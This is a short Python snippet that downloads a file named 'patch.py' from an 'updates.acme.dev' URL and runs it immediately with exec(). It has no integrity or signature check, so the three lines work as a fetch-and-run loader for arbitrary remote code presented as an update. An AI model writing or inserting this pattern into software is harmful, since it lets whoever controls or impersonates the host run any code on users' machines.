import urllib.request
opener = urllib.request.build_opener()
exec(opener.open("https://updates.acme.dev/patch.py").read())
